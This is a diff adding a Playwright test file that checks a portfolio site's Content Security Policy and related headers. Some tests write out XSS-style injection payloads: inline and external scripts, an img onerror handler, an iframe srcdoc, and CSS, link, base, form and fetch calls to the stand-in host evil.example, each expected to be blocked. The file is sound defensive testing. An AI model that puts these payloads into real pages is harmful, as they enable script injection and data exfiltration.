@@ -1,0 +1,183 @@
+import type { Page } from 'playwright/test';
+import { card } from '../card.ts';
+import type { SiteName } from '../sites.ts';
+import { expect, test } from '../test.ts';
+
+/** Collects what the browser refuses from the first moment on, in every document of the page. */
+async function watchRefusals(page: Page): Promise<string[]> {
+  const refusals: string[] = [];
+  await page.exposeBinding('reportRefusal', (_, refusal: string) => refusals.push(refusal));
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
+      const report = Reflect.get(window, 'reportRefusal') as (refusal: string) => void;
+      report(`${effectiveDirective} ${blockedURI} ${sample}`);
+    });
+  });
+  return refusals;
+}
+
+/** Looks at everything on the page: scrolls through it, opens what opens, chooses a theme. */
+async function use(page: Page): Promise<void> {
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+  for (const project of await page
+    .getByRole('region', { name: 'Private Projekte Showcase' })
+    .locator('summary')
+    .all()) {
+    await project.click();
+  }
+  const details = page.getByRole('button', { name: 'Details' }).first();
+  if (await details.isVisible()) {
+    await details.click();
+    await expect(page.getByRole('dialog')).toBeVisible();
+    await page.keyboard.press('Escape');
+    await expect(page.getByRole('dialog')).toHaveCount(0);
+  }
+  const themes = page.getByRole('button', { name: /theme/i }).first();
+  if (await themes.isVisible()) {
+    await themes.click();
+    await page.getByRole('radio').last().check({ force: true });
+    await page.keyboard.press('Escape');
+  }
+  await page.evaluate(async () => {
+    for (let y = 0; y < document.body.scrollHeight; y += 500) {
+      window.scrollTo(0, y);
+      await new Promise((resolve) => setTimeout(resolve, 20));
+    }
+  });
+  await page.waitForLoadState('networkidle');
+}
+
+const sites: readonly SiteName[] = ['shipped', 'full', 'below-a-path', 'listed', 'self-described', 'invalid'];
+const paths = ['', 'impressum', 'datenschutz', 'gibt-es-nicht'];
+
+for (const name of sites) {
+  test(`Nothing that the site "${name}" needs is refused, on any of its pages`, async ({ page, open }) => {
+    const refusals = await watchRefusals(page);
+    for (const path of paths) {
+      await open(name, path);
+      await use(page);
+    }
+    expect(refusals).toEqual([]);
+  });
+}
+
+test('Nothing is refused to the analytics services once the visitor has accepted', async ({
+  page,
+  open,
+  world,
+}) => {
+  const refusals = await watchRefusals(page);
+  await open('full');
+  await page.getByRole('button', { name: 'Akzeptieren' }).click();
+  await card(page, 'My Projects').getByRole('link', { name: 'Passwortspiel' }).click();
+  await expect.poll(() => world.count(/\/g\/collect/)).toBe(1);
+  await expect.poll(() => world.count(/in\.hotjar\.com/)).toBeGreaterThan(0);
+  expect(refusals).toEqual([]);
+});
+
+test('The worker’s own requests are allowed too', async ({ page, open, world }) => {
+  await open('full');
+  await page.evaluate(() => navigator.serviceWorker.ready);
+  await page.reload();
+  await use(page);
+  world.forget();
+  await page.reload();
+  await use(page);
+  // Stored answers are renewed by the worker: refused, they would not reach the world.
+  await expect.poll(() => world.count('github')).toBeGreaterThan(0);
+  await expect.poll(() => world.count('dev.to')).toBeGreaterThan(0);
+});
+
+/** Puts a script element into the page, as an attacker who has found a way in would. */
+const inject = (page: Page, content: { text?: string; src?: string }) =>
+  page.evaluate(
+    ({ text, src }) =>
+      new Promise<void>((resolve) => {
+        const script = document.createElement('script');
+        script.onload = () => resolve();
+        script.onerror = () => resolve();
+        if (text) script.textContent = text;
+        if (src) script.src = src;
+        document.body.append(script);
+        setTimeout(resolve, 500);
+      }),
+    content,
+  );
+const wasHacked = (page: Page) => page.evaluate(() => Reflect.has(window, 'hacked'));
+
+for (const path of paths) {
+  test(`An injected script does not run on /${path}`, async ({ page, open, world }) => {
+    const refusals = await watchRefusals(page);
+    await open('full', path);
+    await inject(page, { text: 'window.hacked = true' });
+    await inject(page, { src: 'https://evil.example/hack.js' });
+    await inject(page, { src: 'data:text/javascript,window.hacked=true' });
+    expect(await wasHacked(page)).toBe(false);
+    expect(world.count(/evil\.example/)).toBe(0);
+    // Each twice: by the document and by the host.
+    expect([...new Set(refusals.map((refusal) => refusal.trim()))]).toEqual([
+      'script-src-elem inline',
+      'script-src-elem https://evil.example/hack.js',
+      'script-src-elem data',
+    ]);
+  });
+}
+
+test('Injected markup neither runs code nor redirects addresses, nor sends anything away', async ({
+  page,
+  open,
+  world,
+}) => {
+  await open('self-described');
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+  await page.evaluate(async () => {
+    const box = document.createElement('div');
+    box.innerHTML = `
+      <img src="x:" onerror="window.hacked = true">
+      <img src="https://evil.example/pixel.png">
+      <iframe src="https://evil.example/"></iframe>
+      <iframe srcdoc="<script>parent.hacked = true</script>"></iframe>
+      <object data="https://evil.example/"></object>
+      <link rel="stylesheet" href="https://evil.example/hack.css">
+      <style>body { background: url(https://evil.example/leak) }</style>
+      <p style="background: url(https://evil.example/leak)">x</p>
+      <base href="https://evil.example/">
+      <form action="https://evil.example/" method="get"><button>x</button></form>`;
+    document.body.append(box);
+    await fetch('https://evil.example/').catch(() => {});
+    box.querySelector('button')?.click();
+    await new Promise((resolve) => setTimeout(resolve, 500));
+  });
+  expect(await wasHacked(page)).toBe(false);
+  expect(await page.evaluate(() => new URL(document.baseURI).hostname)).toBe('localhost');
+  expect(world.count(/evil\.example/)).toBe(0);
+});
+
+test('No other site can frame the page', async ({ page, site }) => {
+  const { url } = await site('listed');
+  const refused = page.waitForEvent('console', (message) => message.text().includes('frame-ancestors'));
+  await page.setContent(`<iframe src="${url}"></iframe>`);
+  await refused;
+  await expect(page.frameLocator('iframe').locator('#root')).toHaveCount(0);
+});
+
+test('The document says the same as the host, so that a host without headers is safe too', async ({
+  page,
+  open,
+  site,
+}) => {
+  const { url } = await site('below-a-path');
+  for (const path of paths) {
+    await open('below-a-path', path);
+    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
+    const answer = await fetch(url + path);
+    const header = answer.headers.get('content-security-policy') ?? '';
+    for (const directive of ['default-src', 'script-src', 'style-src', 'img-src', 'object-src', 'base-uri']) {
+      const said = (text: string | null) => text?.split('; ').find((part) => part.startsWith(directive));
+      expect(said(policy)).toBeDefined();
+      expect(said(header)).toBe(said(policy));
+    }
+    expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
+    expect(answer.headers.get('permissions-policy')).toContain('camera=()');
+  }
+});
